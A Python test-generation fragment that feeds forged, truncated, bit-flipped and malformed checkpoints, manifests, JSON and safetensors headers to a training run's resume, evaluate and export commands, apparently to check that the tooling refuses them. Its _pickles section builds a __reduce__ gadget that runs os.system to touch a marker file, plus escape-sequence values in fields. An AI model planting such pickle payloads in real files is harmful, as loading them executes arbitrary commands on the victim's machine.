        "pieces with gaps": lambda m: m["facts"]["replay"]["pieces"].pop(1),
        "the same piece twice": lambda m: m["facts"]["replay"]["pieces"].insert(
            0, m["facts"]["replay"]["pieces"][0]
        ),
        "iteration in the far future": facts(iteration=2**31),
        "iteration of 400 digits": facts(iteration=10**400),
        "iteration 0": facts(iteration=0),
        "iteration 1e308": facts(iteration=1e308),
        "rows of metrics that are not there": facts(log_position=2**40),
        "negative rows of metrics": facts(log_position=-1),
        "rollbacks of 400 digits": facts(rollbacks=10**400),
        "no facts": lambda m: m.update(facts={}),
    }
    may = {
        "rows of metrics in the middle of a line": facts(log_position=17),
        "no rows of metrics": facts(log_position=0),
        "frame of another iteration": facts(env_steps=10**9),
        "frame of text": facts(env_steps="100"),
        "frame 1e308": facts(env_steps=1e308),
        "no frame": lambda m: m["facts"].pop("env_steps"),
        "another task": facts(task="cheetah-run"),
        "a task of a list": facts(task=[]),
        "a task with line breaks": facts(task="a\nb\x1b[2J"),
        "many rollbacks": facts(rollbacks=2**31 - 1),
        "exported": facts(exported=True),
        "another format": lambda m: m.update(format=1),
        "format of text": lambda m: m.update(format="2\x1b[2J\n"),
        "groups of surrogates": lambda m: m["groups"].update({"\ud800": m["groups"]["agent"]}),
        "a hundred thousand groups": lambda m: m["groups"].update(
            {f"g{n}": m["groups"]["agent"] for n in range(30_000)}
        ),
    }
    for changes, refused in ((must, ("resume", "continue")), (may, ())):
        for name, change in changes.items():

            def attack(scene: Scene, change: Callable[[dict], object] = change) -> None:
                for folder in checkpoints(scene.run):
                    change_manifest(folder, change)

            yield Case("records", name, attack, ("resume", "continue", "evaluate", "best", "export"), refused)

    def renamed(scene: Scene) -> None:
        for folder in checkpoints(scene.run)[:-1]:
            shutil.rmtree(folder)
        os.rename(newest(scene.run), scene.run / "checkpoints" / "step-999999999999")

    yield Case("records", "a checkpoint by the name of another frame", renamed, ("resume", "evaluate", "export"))


# Withstood from the beginning

USED = ("resume", "evaluate", "best", "plot", "export", "watch")


def _pickles() -> Iterator[Case]:
    """Four kinds of pickle in nine places."""

    class Planted:
        def __init__(self, planted: Path):
            self.planted = planted

        def __reduce__(self) -> tuple:
            return os.system, (f"touch {self.planted}",)

    def array_file(planted: Path) -> bytes:
        file = io.BytesIO()
        np.save(file, np.array([Planted(planted)], object), allow_pickle=True)
        return file.getvalue()

    def archive(planted: Path) -> bytes:
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w") as inside:
            inside.writestr("archive/data.pkl", pickle.dumps(Planted(planted)))
            inside.writestr("x.npy", array_file(planted))
        return file.getvalue()

    kinds = {
        "of protocol 0": forging.foreign_code,
        "of protocol 5": lambda planted: pickle.dumps(Planted(planted), 5),
        "in an array file": array_file,
        "in an archive": archive,
    }
    for kind, make in kinds.items():
        for name in ("config.json", "versions.json", "metrics.jsonl", f"NEWEST/{MANIFEST}", "replay/LAST"):
            attack = lambda scene, name=name, make=make: place(scene.run, name).write_bytes(make(scene.planted))
            yield Case("pickles", f"{kind}: {name}", attack, USED)
        for group in GROUPS:
            attack = lambda scene, group=group, make=make: forging.forge(
                newest(scene.run), group, make(scene.planted)
            )
            yield Case("pickles", f"{kind}: {group}", attack, USED)


def _two_runs() -> Iterator[Case]:
    """Parts of another run in the places of this one's."""
    names = ["config.json", "versions.json", "metrics.jsonl", "checkpoints", "replay", "NEWEST"]
    names += [f"NEWEST/{name}" for name in CHECKPOINT_FILES] + ["replay/FIRST", "replay/LAST"]
    for name in names:

        def make(path: Path, scene: Scene) -> None:
            source = _same_of_mine(path, scene)
            (shutil.copytree if source.is_dir() else shutil.copyfile)(source, path)

        yield Case("swapped", name, put(name, make), USED)
    for group in GROUPS:

        def signed(scene: Scene, group: str = group) -> None:
            source = newest(scene.mine) / f"{group}.safetensors"
            forging.forge(newest(scene.run), group, source.read_bytes())

        yield Case("swapped", f"{group}, signed", signed, (*USED, "continue"))
        for other in GROUPS:

            def exchanged(scene: Scene, group: str = group, other: str = other) -> None:
                data = (newest(scene.run) / f"{other}.safetensors").read_bytes()
                forging.forge(newest(scene.run), group, data)

            if other != group:
                yield Case("swapped", f"{other} as {group}, signed", exchanged, ("resume", "evaluate", "best"))


def _damaged() -> Iterator[Case]:
    names = [f"NEWEST/{name}" for name in CHECKPOINT_FILES] + ["replay/FIRST", "replay/LAST", "config.json"]
    for name in names:
        for share in (0.0, 0.3, 0.999):

            def cut(scene: Scene, name: str = name, share: float = share) -> None:
                path = place(scene.run, name)
                os.truncate(path, int(share * path.stat().st_size))

            yield Case("damaged", f"{name}: cut at {share}", cut, USED)
        for share in (0.0, 0.5, 0.99):

            def flip(scene: Scene, name: str = name, share: float = share) -> None:
                path = place(scene.run, name)
                data = bytearray(path.read_bytes())
                data[int(share * len(data))] ^= 1 << random.Random(name).randrange(8)
                path.write_bytes(data)

            def flip_and_sign(scene: Scene, flip: Attack = flip) -> None:
                flip(scene)
                forging.sign(newest(scene.run))

            yield Case("damaged", f"{name}: a bit at {share}", flip, USED)
            yield Case("damaged", f"{name}: a bit at {share}, signed", flip_and_sign, USED)

    def sole(scene: Scene) -> None:
        for folder in checkpoints(scene.run)[:-1]:
            shutil.rmtree(folder)
        (newest(scene.run) / "agent.safetensors").write_bytes(b"x")

    used = ("resume", "evaluate", "export", "replay", "inspect")
    yield Case("damaged", "the only checkpoint", sole, used, used, never=NOT_YET)


def _json() -> Iterator[Case]:
    documents = {
        "nested": b"[" * 1_000_000,
        "nested objects": b'{"a":' * 500_000,
        "closed nests": b"[" * 100_000 + b"]" * 100_000,
        "a list": b"[]",
        "null": b"null",
        "no names": b"{}",
        "not text": b"\xff\xfe",
        "UTF-16": '{"a": 1}'.encode("utf-16"),
        "a long number": b"9" * 9000,
        "NaN": b"NaN",
        "larger than allowed": b"[" + b"[]," * 3_000_000 + b"0]",
    }
    for name in ("config.json", "versions.json", f"NEWEST/{MANIFEST}"):
        for document, data in documents.items():
            attack = lambda scene, name=name, data=data: place(scene.run, name).write_bytes(data)
            yield Case("json", f"{name}: {document}", attack, USED)

        def doubled(scene: Scene, name: str = name) -> None:
            path = place(scene.run, name)
            inner = path.read_text().strip()
            path.write_text(f"{inner[:-1]}, {inner[1:]}")

        yield Case("json", f"{name}: every name twice", doubled, USED)


def _headers() -> Iterator[Case]:
    entry = b'"x":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    contents = {
        "a header of 2^63 bytes": (2**63).to_bytes(8, "little") + b"{}",
        "a header of 99 MB": (99_000_000).to_bytes(8, "little") + b"{}",
        "a header of 99 MB that is there": forging.header(b'{"a":"' + b" " * 99_000_000 + b'"}'),
        "a nested header": forging.header(b"[" * 1_000_000),
        "a name twice": forging.header(b"{%s,%s}" % (entry, entry)) + bytes(4),
        "a hundred thousand names": forging.header(
            b"{"
            + b",".join(b'"%d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}' % n for n in range(60_000))
            + b"}"
        ),
        "terabytes of nothing": forging.header(
            b'{"x":{"dtype":"F32","shape":[1099511627776,0],"data_offsets":[0,0]}}'
        ),
        "a shape of 400 digits": forging.header(
            b'{"x":{"dtype":"F32","shape":[1%s],"data_offsets":[0,4]}}' % (b"0" * 400)
        ),
    }
    for name, data in contents.items():
        for group in GROUPS:
            attack = lambda scene, group=group, data=data: forging.forge(newest(scene.run), group, data)
            yield Case("headers", f"{group}: {name}", attack, ("resume", "evaluate", "best"))


def _corpus() -> Iterator[Case]:
    """The corpus that is read in this process by the check `forgeries`, by commands."""
    for name in hostile.corpus(Path("/")):
        attack = lambda scene, name=name: hostile.corpus(scene.planted)[name](scene.run)
        yield Case("corpus", name, attack, ("resume", "evaluate", "best"))
